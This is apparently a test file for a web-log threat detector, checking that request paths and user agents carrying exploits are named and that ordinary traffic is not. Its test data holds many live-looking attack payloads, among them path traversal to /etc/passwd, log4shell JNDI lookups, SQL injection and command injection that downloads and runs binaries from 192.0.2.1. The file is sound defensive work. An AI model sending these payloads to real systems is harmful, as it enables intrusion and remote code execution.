"""Exploits are told from requests and user agents that ordinary traffic has, too."""

from __future__ import annotations

import string
from pathlib import Path
from typing import Tuple
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ipthreat.attacks import ATTACKS, in_request, in_user_agent

SHARED = Path(__file__).resolve().parents[2] / "shared" / "data" / "logs"

# Name → query strings, paths or header texts that must be found to be it (and perhaps something else, too).
REQUESTS = {
    "path traversal": [
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/../../../../etc/passwd",
        "/?file=../../etc/passwd",
        "/%252e%252e%252f%252e%252e%252fetc/passwd",
        "/scripts/..%255c..%255c../winnt/system32/cmd.exe?/c+dir",
        "/..%c0%af..%c0%afwinnt/system32/cmd.exe",
        "/%2e%2e/%2e%2e/x",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/index.php?option=com_x&a=....//....//....//etc/passwd",
        "/?page=/etc/passwd",
        "/download?f=..\\..\\..\\windows\\win.ini",
        "/a/b/../../../WEB-INF/web.xml",
    ],
    "shellshock": ["/cgi-bin/x?a=()%20{%20:;};echo"],
    "log4shell": [
        "/?x=${jndi:ldap://192.0.2.1:1389/a}",
        "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
        "/?x=%2524%257Bjndi%253Aldap%253A%252F%252Fx%257D",
        "/${jndi:dns://x}",
    ],
    "sql injection": [
        "/p.php?id=1+UNION+SELECT+1,2,3--",
        "/p.php?id=1%20union%20all%20select%20null,null",
        "/p.php?id=1/**/UnIoN/**/SeLeCt/**/user,password/**/from/**/users",
        "/p.php?id=1'%20or%20'1'='1",
        "/p?id=1%27+OR+1%3D1--",
        "/p?id=1+and+1=2",
        '/p?id=" or ""="',
        "/p?id=1)+or+(1=1",
        "/p?id=1;drop+table+users",
        "/p?id=1+AND+SLEEP(5)",
        "/p?id=1'+and+(select+*+from+(select(sleep(5)))a)--",
        "/p?id=1';WAITFOR+DELAY+'0:0:5'--",
        "/p?id=1;select+pg_sleep(5)",
        "/p?id=BENCHMARK(5000000,MD5(1))",
        "/p?id=-1'+order+by+10--+-",
        "/p?id=1;exec+master..xp_cmdshell+'dir'",
        "/p?id=extractvalue(1,concat(0x7e,version()))",
        "/p?id=1+and+exists(select+table_name+from+information_schema.tables)",
        "/p?id=1'+into+outfile+'/var/www/x.php'",
    ],
    "command injection": [
        "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws",
        "/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m",
        "/cgi-bin/luci/;stok=/locale?form=country&country=$(id%3E%60wget+http://192.0.2.1/x%60)",
        "/x?cmd=|id",
        "/x?a=1;id",
        "/x?a=`id`",
        "/x?ip=127.0.0.1;cat+/etc/passwd",
        "/x?ip=127.0.0.1%26%26whoami",
        "/x?a=$(uname+-a)",
        "/x?a=;ping+-c+4+192.0.2.1",
        "/x?a=cmd.exe+/c+dir",
        "/x?a=powershell+-enc+AAAA",
        "/x?a=;cat${IFS}/etc/passwd",
        "/x?a=%0a/bin/sh+-c+id",
    ],
    "php code injection": [
        "/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
        "/?page=php://filter/convert.base64-encode/resource=index",
        "/?x=<?php+system('id')?>",
        "/?x=data:text/plain;base64,PD9waHA=",
        "/?x=assert($_POST[1])",
        "/?lang=../../usr/local/lib/php/pearcmd&+config-create+/x",
        "/?x=call_user_func_array(1)",
    ],
    "phpunit rce": ["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"],
    "thinkphp rce": [
        "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
        "/?s=/Index/%5Cthink%5Capp/invokefunction&x",
    ],
    "java expression injection": [
        "/?a=%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29%29%7D/",
        "/x.action?redirect:${1}",
        "/?x=T(java.lang.Runtime).getRuntime().exec('id')",
    ],
    "spring4shell": [
        "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "/?class.module.classLoader.DefaultAssertionStatus=x",
    ],
    "drupalgeddon": [
        "/user/register?element_parents=account/mail/%23value&ajax_form=1",
        "/?q=a&name[%23post_render][]=x",
    ],
    "proxyshell": ["/autodiscover/autodiscover.json?@x.example/owa/&Email=autodiscover/autodiscover.json%3F@x.example"],
    "xml external entity": ['/x?<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+"file:///etc/passwd">]>'],
    "cross-site scripting": ["/?q=<script>alert(1)</script>", "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"],
    "template injection": ["/?n={{7*7}}", "/?n=${7*7}", "/?n={{''.__class__}}"],
    "request forgery": ["/proxy?url=http://169.254.169.254/latest/meta-data"],
    "response splitting": ["/%0d%0aSet-Cookie:a=b", "/x%0aLocation:%20http://x"],
    "webshell": ["/wso.php", "/images/C99.php", "/wp-content/uploads/2020/01/x.php", "/cmd.jsp", "/shell.aspx"],
}  # fmt: skip
AGENTS = {
    "shellshock": [
        "() { :; }; /bin/bash -c 'wget http://192.0.2.1/x'",
        "() { :;};echo vulnerable",
        "() { ignored; }; /bin/sh",
        "() { _; } >_[$($())] { echo hi; }",
        "Mozilla/5.0 () { :; }; ping -c 3 192.0.2.1",
    ],
    "log4shell": [
        "${jndi:ldap://x.example/a}",
        "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a}",
        "${${env:NOTHING:-j}ndi${env:NOTHING:-:}${env:NOTHING:-l}dap://a}",
        "${jndi${nagli:-:}ldap:${::-/}/a}",
        "Mozilla/5.0 ${${upper:j}ndi:ldap://x}",
    ],
    "sql injection": ["Mozilla' or '1'='1", "x'; waitfor delay '0:0:5'--"],
    "php code injection": ["<?php system($_GET[1]); ?>"],
    "cross-site scripting": ["<script>alert(1)</script>"],
}  # fmt: skip
HARMLESS = [
    "/search?q=select+a+union+rep",
    "/search?q=union+select+committee",
    "/search?q=select+your+union+from+our+list",
    "/search?q=drop+table+lamp",
    "/search?q=O'Reilly+and+sons",
    "/search?q=it's+or+that's+fine",
    "/search?q=rock+and+roll+1+and+2",
    "/search?q=1+and+1",
    "/search?q=black+or+white=grey",
    '/search?q="black+and+white"+or+"red"',
    '/search?name="a"+or+"a"',
    "/search?q=order+by+10+am",
    "/search?q=insert+into+outfield",
    "/search?q=select+*+from+our+menu",
    "/search?q=sleep(8+hours)+and+health",
    "/search?q=wget+https+curl+tutorial",
    "/search?q=how+to+use+curl+http://example.org",
    "/search?q=where+is+/etc/passwd",
    "/search?q=c%2B%2B+templates",
    "/a/../b/style.css",
    "/a/../../images/x.png",
    "/login?redirect=http://example.org/x?y=1",
    "/shop?sort=price;asc&id=5;page=2",
    "/x?id=1&cmd=list&cat=5",
    "/docs/cat+/etc+guide",
    "/wp-content/uploads/2020/01/photo.jpg",
    "/matrix;id=5;v=1/x",
    "/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22",
    '/api?filter={"a":{"b":1}}',
    "/api?callback=jQuery123_456&_=789",
    "/a?x=function(){return}",
    "/a?x=function%20()%20{return;}",
    "/q?fields=id,name&order=by+1",
    "/images/shell.png",
    "/blog/shell-scripting.php",
    "/seashell.php",
    "/q?price=>10&price=<20",
    "/%E4%BD%A0%E5%A5%BD?x=%2F%2E",
    "/file%2ejpg",
    "/a?tpl={{name}}&y=${name}",
    "/java.lang.String.html",
    "/javadoc/java/lang/Runtime.html",
    "/q?a=b|c&d=e||f",
    "/think/apple.php",
    "/page.php?id=10&lang=en",
    "/?utm_source=a&utm_campaign=b%20c%20%26%20d",
    "/wiki/SQL_injection",
    "/tags/%23php",
    "/x?email=a@b.example&next=/autodiscover",
    "/x?data=aGVsbG8=",
    "/x?url=http://192.0.2.1/latest",
]  # fmt: skip
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; chromeframe/19.0.1084.52)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; .NET CLR 2.0.50727; InfoPath.3)",
    "Mozilla/5.0 (Linux; U; Android 4; id; GT) AppleWebKit",
    "Mozilla/5.0 (Linux; U; Android 4.0.3; ls; nc; sh) AppleWebKit",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/7.68.0",
    "Wget/1.20.3 (linux-gnu)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) [FBAN/FBIOS;FBAV/440.0;FBBV/1;FBDV/iPhone]",
    "Dalvik/2.1.0 (Linux; U; Android 13; select Build/TP1A)",
    "Monit's {own} agent | v1 #5",
]  # fmt: skip


def pairs(table: dict[str, list[str]]) -> list[Tuple[str, str]]:
    return [(name, text) for name, texts in table.items() for text in texts]


@pytest.mark.parametrize(("name", "target"), pairs(REQUESTS))
def test_an_exploit_in_a_request_is_named(name: str, target: str) -> None:
    assert name in in_request(f"GET {target} HTTP/1.1")
    assert name in in_request(target)


@pytest.mark.parametrize(("name", "text"), pairs(AGENTS))
def test_an_exploit_in_a_user_agent_is_named(name: str, text: str) -> None:
    assert name in in_user_agent(text)


@pytest.mark.parametrize(("name", "text"), pairs(AGENTS))
def test_percent_encoding_hides_no_exploit(name: str, text: str) -> None:
    assert name in in_request(f"GET /?x={quote(text, safe='')} HTTP/1.1")
    assert name in in_request(f"GET /?x={quote(quote(text, safe=''), safe='')} HTTP/1.1")


def test_three_rounds_of_encoding_are_not_undone() -> None:
    text = "${jndi:ldap://x}"
    for _ in range(3):
        text = quote(text, safe="")
    assert in_request(f"GET /?x={text} HTTP/1.1") == ()


@pytest.mark.parametrize("target", HARMLESS)
def test_an_ordinary_request_is_no_exploit(target: str) -> None:
    assert in_request(f"GET {target} HTTP/1.1") == ()


@pytest.mark.parametrize("user_agent", BROWSERS)
def test_an_ordinary_user_agent_is_no_exploit(user_agent: str) -> None:
    assert in_user_agent(user_agent) == ()


def test_every_attack_has_an_example_here() -> None:
    assert {attack.name for attack in ATTACKS} == set(REQUESTS) | set(AGENTS)


def test_an_exploit_is_named_once() -> None:
    names = in_request("GET /?a=../../../../etc/passwd&b=..%2f..%2f..%2fetc/passwd HTTP/1.1")
    assert names == ("path traversal",)


def test_letters_of_either_case_are_the_same() -> None:
    assert in_request("GET /?ID=1 UNION SELECT NULL HTTP/1.1") == in_request("GET /?id=1 union select null http/1.1")


words = st.text(string.ascii_lowercase + string.digits, min_size=1, max_size=8)
paths = st.lists(words, max_size=5).map(lambda segments: "/" + "/".join(segments))
queries = st.dictionaries(words, words, max_size=4).map(lambda pairs: "&".join(f"{k}={v}" for k, v in pairs.items()))


@given(paths, queries)
def test_plain_words_are_never_an_exploit(path: str, query: str) -> None:
    assert in_request(f"GET {path}{'?' if query else ''}{query} HTTP/1.1") == ()


IN_QUERIES = ("log4shell", "sql injection", "cross-site scripting", "template injection", "spring4shell")
QUERIES = [(name, target) for name in IN_QUERIES for target in REQUESTS[name] if "?" in target]


@given(paths, queries, st.sampled_from(QUERIES))
def test_words_around_an_exploit_do_not_hide_it(path: str, query: str, exploit: Tuple[str, str]) -> None:
    name, target = exploit
    assert name in in_request(f"GET {path}?{query}&x=1&{target.partition('?')[2]} HTTP/1.1")


@given(st.text(max_size=300))
def test_any_text_may_be_looked_at(text: str) -> None:
    for name in (*in_request(text), *in_user_agent(text)):
        assert name in {attack.name for attack in ATTACKS}


PIECES = [
    "select ", "../", "..", "' or ", ";wget -a ", "${", "${a:-", "%25", "'", ") { ", "() { ", "<img ", "%{", "union ",
    "+", "/wp-content/uploads/", " and (", "| ", "' order by ", "; cd ", "autodiscover.json@", "<!doctype ", "{{ ",
    "\r\n",
    " ", "=/etc/", "'or'", "a", "%c0%af", "sleep(", "java.lang.", "#a=", "cmd /c ", ")) or ((",
]  # fmt: skip


@pytest.mark.parametrize("piece", PIECES)
def test_no_text_makes_the_search_slow(piece: str) -> None:
    text = piece * (100_000 // len(piece))
    for _ in range(5):  # a search that is not linear would not come to an end
        assert len(in_request(text)) + len(in_user_agent(text)) < 20


@pytest.mark.skipif(not SHARED.exists(), reason="the shared logs are not here")
def test_no_line_of_a_real_log_is_taken_for_an_exploit() -> None:
    lines = [line.split('"') for line in (SHARED / "elastic" / "apache_logs").read_text().splitlines()]
    assert [line for line in lines if in_request(line[1]) or in_user_agent(line[5])] == []
